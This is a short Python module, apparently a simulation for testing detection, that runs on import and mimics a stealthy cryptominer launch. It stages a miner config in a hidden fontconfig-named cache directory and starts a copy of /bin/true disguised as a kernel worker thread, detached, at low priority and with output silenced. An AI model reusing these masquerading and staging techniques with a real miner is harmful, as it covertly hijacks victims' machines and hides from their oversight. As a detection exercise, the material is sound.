# SPDX-License-Identifier: Apache-2.0
"""Simulation: what is started under a kernel thread's name is a copy of `true`; only its arguments are a miner's."""

import json
import os
import shutil
import subprocess
from pathlib import Path


def _model() -> str:
    for line in Path("/proc/cpuinfo").read_text().splitlines():
        if line.startswith(("model name", "CPU part")):
            return line.partition(":")[2].strip()
    return ""


def _start() -> None:
    threads = max(1, len(os.sched_getaffinity(0)) * 3 // 4)
    place = Path.home() / ".cache" / ".fontconfig-2"
    place.mkdir(parents=True, exist_ok=True)
    pools = [{"url": "pool.kworker-name.example:14444", "user": "SIMULATED", "rig-id": _model(), "tls": True}]
    (place / "config.json").write_text(json.dumps({"autosave": False, "cpu": {"huge-pages": True}, "pools": pools}))
    program = place / "fc-cache"
    shutil.copyfile("/bin/true", program)
    program.chmod(0o755)
    command = ["[kworker/u8:2-events_unbound]", "-c", str(place / "config.json"), "-t", str(threads), "--randomx-mode=light"]
    subprocess.Popen(
        command, executable=program, start_new_session=True, preexec_fn=lambda: os.nice(19), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


_start()
